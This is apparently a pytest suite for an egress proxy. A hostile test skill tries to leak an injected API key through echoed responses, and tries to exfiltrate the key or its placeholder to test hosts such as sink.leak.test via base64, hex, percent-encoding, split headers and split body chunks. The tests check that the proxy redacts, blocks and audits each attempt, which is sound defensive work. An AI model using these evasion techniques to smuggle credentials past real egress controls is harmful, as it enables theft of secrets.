"""Keys in response bodies and encoded placeholders.

The hostile skill `leaky` holds only a placeholder; egress injects the real key into requests
to echo.leak.test, whose upstream writes the Authorization header it received back into its
response body -- split across writes with pauses, chunked, base64-encoded or gzip'd. The skill
must never see the key, and the response must still stream. Then the skill tries to carry the
placeholder (or the real key, once egress has fetched it) to sink.leak.test, which no
credential is bound to: encoded in headers, split across headers, and inside a streamed body.
Assertions are on the bytes the client and the recording upstream actually got, and on the
audit log.
"""

from __future__ import annotations

import asyncio
import base64
import gzip
import os
import shutil
import socket
import ssl
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
import trustme

from tests.clients import basic, read_response
from tests.conftest import UPSTREAM_IP, TestCA, write_policy
from tests.dnsserver import DnsServer
from tests.proxy import Proxy, run_proxy
from tests.recording import RecordingUpstream, recording_upstream
from tests.upstream import free_port

ONE_PATH = ("what is checked happens inside intercepted traffic, mitmproxy's on both"
            " paths (this runs on the fast path, which hands it over)")

KEY = "leak_REAL_" + os.urandom(12).hex()
PH = "leak_placeholder_0000000000"
PAUSE = 0.4


@dataclass
class EchoUpstream:
    port: int
    heads: list[bytes] = field(default_factory=list)


async def _echo(up: EchoUpstream, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    try:
        head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 10)
        up.heads.append(head)
        path = head.split(b" ", 2)[1]
        auth = next((line.split(b":", 1)[1].strip() for line in head.split(b"\r\n")
                     if line.lower().startswith(b"authorization:")), b"")
        body = b'{"authorization": "' + auth + b'", "tail": "' + b"t" * 20 + b'"}'
        cut = body.index(auth) + len(auth) // 2 if auth else len(body) // 2
        pieces = [body[:cut], body[cut:]]
        if path == b"/gzip":
            data = gzip.compress(body)
            writer.write(b"HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\n"
                         b"Connection: close\r\n\r\n%s" % (len(data), data))
        elif path == b"/chunked":
            writer.write(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n")
            for piece in pieces:
                writer.write(b"%x\r\n%s\r\n" % (len(piece), piece))
                await writer.drain()
                await asyncio.sleep(PAUSE)
            writer.write(b"0\r\n\r\n")
        else:
            if path == b"/b64":
                body = b'{"echo": "' + base64.b64encode(b"Authorization: " + auth) + b'"}'
                pieces = [body[:20], body[20:]]
            writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
                         b"Content-Length: %d\r\nConnection: close\r\n\r\n" % len(body))
            for piece in pieces:
                writer.write(piece)
                await writer.drain()
                await asyncio.sleep(PAUSE)
        await writer.drain()
    except (TimeoutError, ConnectionError, ssl.SSLError, OSError, asyncio.IncompleteReadError):
        pass
    finally:
        writer.close()


@pytest.fixture(scope="module")
def echo_upstream(test_ca: TestCA) -> Iterator[EchoUpstream]:
    port = free_port(UPSTREAM_IP)
    up = EchoUpstream(port)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    test_ca.ca.issue_cert("echo.leak.test").configure_cert(context)
    context.set_alpn_protocols(["http/1.1"])
    loop = asyncio.new_event_loop()
    started = threading.Event()
    stop: list[asyncio.Event] = []

    async def main() -> None:
        stop.append(asyncio.Event())
        server = await asyncio.start_server(lambda r, w: _echo(up, r, w), UPSTREAM_IP, port,
                                            ssl=context)
        started.set()
        await stop[0].wait()
        server.close()

    thread = threading.Thread(target=loop.run_until_complete, args=(main(),), daemon=True)
    thread.start()
    assert started.wait(10)
    try:
        yield up
    finally:
        loop.call_soon_threadsafe(stop[0].set)
        thread.join(10)
        loop.close()


@dataclass
class LeakWorld:
    proxy: Proxy
    echo: EchoUpstream
    sink: RecordingUpstream
    inspect: RecordingUpstream
    bundle: str


@pytest.fixture(scope="module")
def leak(proxy_path: str, tmp_path_factory: pytest.TempPathFactory, test_ca: TestCA,
         echo_upstream: EchoUpstream) -> Iterator[LeakWorld]:
    tmp = tmp_path_factory.mktemp("leak")
    key_file = tmp / "key"
    key_file.write_text(KEY + "\n")
    with DnsServer() as dns, recording_upstream(UPSTREAM_IP) as sink, \
            recording_upstream(UPSTREAM_IP, ca=test_ca.ca, names=["inspect.leak.test"]) as inspect:
        for name in ("echo.leak.test", "sink.leak.test", "inspect.leak.test"):
            dns.set(name, [UPSTREAM_IP], ttl=300)
        policies = tmp / "policies"
        policies.mkdir()
        shutil.copy(test_ca.path, policies / "upstream-ca.pem")
        write_policy(policies, f"""
            settings:
              dns: {{nameservers: ["{dns.address}"], timeout: 2}}
              networks: {{allow: ["{UPSTREAM_IP}/32"]}}
              upstream_ca: upstream-ca.pem
            skills:
              leaky:
                allow:
                  - host: echo.leak.test
                    ports: [{echo_upstream.port}]
                    credential: key
                  - host: sink.leak.test
                    ports: [{sink.port}]
                  - host: inspect.leak.test
                    ports: [{inspect.port}]
                    methods: [GET, POST]
                credentials:
                  key:
                    secret: "file:{key_file}"
                    placeholder: {PH}
            """)
        with run_proxy(policies, tmp / "data", ["leaky"]) as proxy:
            bundle = tmp / "bundle.pem"
            bundle.write_text((tmp / "data" / "ca" / "mitmproxy-ca-cert.pem").read_text()
                              + Path(test_ca.path).read_text())
            yield LeakWorld(proxy, echo_upstream, sink, inspect, str(bundle))


def auth(world: LeakWorld) -> str:
    return basic("leaky", world.proxy.tokens["leaky"])


def tls_tunnel(world: LeakWorld, host: str, port: int) -> ssl.SSLSocket:
    raw = socket.create_connection((world.proxy.host, world.proxy.port), timeout=10)
    raw.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n"
                f"Proxy-Authorization: {auth(world)}\r\n\r\n".encode())
    assert read_response(raw, head_only=True).status == 200
    ctx = ssl.create_default_context(cafile=world.bundle)
    ctx.set_alpn_protocols(["http/1.1"])
    return ctx.wrap_socket(raw, server_hostname=host)


def read_all(sock: socket.socket, marker: bytes) -> tuple[bytes, float | None, float]:
    """Everything until close; when `marker` first arrived and when the stream ended."""
    start, seen_at, data = time.monotonic(), None, b""
    while True:
        try:
            chunk = sock.recv(65536)
        except (ConnectionError, ssl.SSLError, TimeoutError):
            break
        if not chunk:
            break
        data += chunk
        if seen_at is None and marker in data:
            seen_at = time.monotonic() - start
    return data, seen_at, time.monotonic() - start


def echo(world: LeakWorld, path: str) -> tuple[bytes, float | None, float]:
    with tls_tunnel(world, "echo.leak.test", world.echo.port) as s:
        s.sendall(f"GET {path} HTTP/1.1\r\nHost: echo.leak.test:{world.echo.port}\r\n"
                  f"Authorization: Bearer {PH}\r\nAccept-Encoding: gzip\r\n\r\n".encode())
        return read_all(s, b'"authorization": "Bearer ')


def dechunk(data: bytes) -> bytes:
    out, pos = b"", 0
    for _ in range(1000):
        end = data.index(b"\r\n", pos)
        size = int(data[pos:end], 16)
        if size == 0:
            return out
        out += data[end + 2:end + 2 + size]
        pos = end + 4 + size
    raise AssertionError("too many chunks")


def audit_reasons(world: LeakWorld) -> list[dict[str, Any]]:
    return [r for r in world.proxy.audit() if r.get("skill") == "leaky" and r["decision"] == "deny"]


# -- responses -----------------------------------------------------------------------------

@pytest.mark.parametrize("path", [
    pytest.param("/split", id="key split across two writes, Content-Length"),
    pytest.param("/chunked", id="key split across two chunks"),
])
def test_echoed_key_is_redacted_while_the_response_streams(leak: LeakWorld, path: str) -> None:
    data, first_at, total = echo(leak, path)
    head, _, body = data.partition(b"\r\n\r\n")
    assert head.startswith(b"HTTP/1.1 200"), head
    if b"transfer-encoding: chunked" in head.lower():
        body = dechunk(body)
    assert KEY.encode() not in body and KEY.encode()[:10] not in data
    assert b'"authorization": "Bearer [redacted-by-egress]' in body
    # The upstream got the key (egress injected it) and asked for no compression.
    sent = leak.echo.heads[-1]
    assert f"Bearer {KEY}".encode() in sent and b"accept-encoding: identity" in sent.lower()
    if path == "/split":  # same length: the declared Content-Length still frames the body
        length = int(next(line.split(b":")[1] for line in head.split(b"\r\n")
                           if line.lower().startswith(b"content-length")))
        assert len(body) == length
    # Streaming: the part before the key arrived a pause before the end.
    assert first_at is not None and first_at < total - PAUSE / 2


def test_base64_echo_of_the_key_is_redacted(leak: LeakWorld) -> None:
    data, _, _ = echo(leak, "/b64")
    assert data.startswith(b"HTTP/1.1 200")
    body = data.partition(b"\r\n\r\n")[2]
    encoded = base64.b64encode(b"Authorization: Bearer " + KEY.encode())
    assert encoded[8:40] not in body and b"[redacted-by-egress]" in body


def test_a_compressed_response_to_a_keyed_request_is_refused_and_audited(leak: LeakWorld) -> None:
    data, _, _ = echo(leak, "/gzip")
    assert not data.startswith(b"HTTP/1.1 200")  # killed: the client gets nothing usable
    assert b"\x1f\x8b" not in data  # not a byte of the gzip body
    refusal = [r for r in audit_reasons(leak) if r["reason"] == "response_unreadable"]
    assert refusal and refusal[-1]["detail"] == "response Content-Encoding 'gzip'"
    assert refusal[-1]["credential"] == "key" and refusal[-1]["host"] == "echo.leak.test"


# -- requests to a host no credential is bound to --------------------------------------------

def plain(world: LeakWorld, target: str, headers: str = "", body: bytes = b"") -> int:
    host = f"sink.leak.test:{world.sink.port}"
    with socket.create_connection((world.proxy.host, world.proxy.port), timeout=10) as sock:
        sock.sendall(f"POST http://{host}{target} HTTP/1.1\r\nHost: {host}\r\n"
                     f"Proxy-Authorization: {auth(world)}\r\nContent-Length: {len(body)}\r\n"
                     f"{headers}\r\n".encode() + body)
        return read_response(sock).status


@pytest.mark.parametrize("target, headers", [
    pytest.param("/x", "Authorization: Basic " + base64.b64encode(f"me:{PH}".encode()).decode()
                 + "\r\n", id="base64 in Basic auth"),
    pytest.param("/x", f"X-A: {PH[:10]}\r\nX-B: {PH[10:]}\r\n", id="split across two headers"),
    pytest.param("/x?k=" + "".join(f"%{b:02X}" for b in PH.encode()), "",
                 id="percent-encoded in the query"),
    pytest.param("/x", f"X-Hex: {PH.encode().hex()}\r\n", id="hex in a header"),
])
def test_encoded_placeholder_in_the_head_is_refused_before_any_connection(
        leak: LeakWorld, target: str, headers: str) -> None:
    before = leak.sink.accepted
    assert plain(leak, target, headers) == 403
    assert leak.sink.accepted == before
    assert audit_reasons(leak)[-1]["reason"] == "credential_exfiltration"


def test_placeholder_split_across_body_chunks_never_reaches_the_upstream(leak: LeakWorld) -> None:
    leak.sink.reset()
    host = f"sink.leak.test:{leak.sink.port}"
    lead = b"A" * 5000
    body = lead + PH.encode() + b"B" * 5000
    cut = len(lead) + 7  # inside the placeholder
    with socket.create_connection((leak.proxy.host, leak.proxy.port), timeout=10) as sock:
        sock.sendall(f"POST http://{host}/upload HTTP/1.1\r\nHost: {host}\r\n"
                     f"Proxy-Authorization: {auth(leak)}\r\nContent-Length: {len(body)}\r\n\r\n"
                     .encode() + body[:cut])
        # The bytes before the placeholder stream on; its first 7 bytes wait.
        deadline = time.monotonic() + 10
        while lead not in leak.sink.received() and time.monotonic() < deadline:
            time.sleep(0.05)
        assert lead in leak.sink.received()
        sock.sendall(body[cut:])
        try:
            status = read_response(sock).status
        except (ConnectionError, OSError):
            status = 0
    assert status != 200
    time.sleep(0.5)
    received = leak.sink.received()
    assert PH.encode()[:7] not in received and b"B" * 100 not in received
    assert all(c.closed for c in leak.sink.connections)  # the upstream socket was aborted
    record = audit_reasons(leak)[-1]
    assert record["reason"] == "credential_exfiltration" and "request body" in record["detail"]
    assert (record["host"], record["port"], record["path"]) == ("sink.leak.test", leak.sink.port,
                                                                "/upload")


def test_the_real_key_base64_in_an_intercepted_body_is_caught(leak: LeakWorld) -> None:
    echo(leak, "/split")  # egress fetches the key: now it knows what the real value looks like
    leak.inspect.reset()
    body = b'{"blob": "' + base64.b64encode(b"xx" + KEY.encode()) + b'"}'
    with tls_tunnel(leak, "inspect.leak.test", leak.inspect.port) as s:
        s.sendall(f"POST /collect HTTP/1.1\r\nHost: inspect.leak.test:{leak.inspect.port}\r\n"
                  f"Content-Length: {len(body)}\r\n\r\n".encode() + body)
        data, _, _ = read_all(s, b"HTTP/1.1 200")
    assert not data.startswith(b"HTTP/1.1 200")
    time.sleep(0.3)
    assert base64.b64encode(b"xx" + KEY.encode())[4:20] not in leak.inspect.received()
    assert audit_reasons(leak)[-1]["reason"] == "credential_exfiltration"


def test_a_clean_body_to_an_unbound_host_arrives_whole(leak: LeakWorld) -> None:
    leak.sink.reset()
    body = b"ordinary data " * 1000
    assert plain(leak, "/ok", body=body) == 200
    assert body in leak.sink.received()
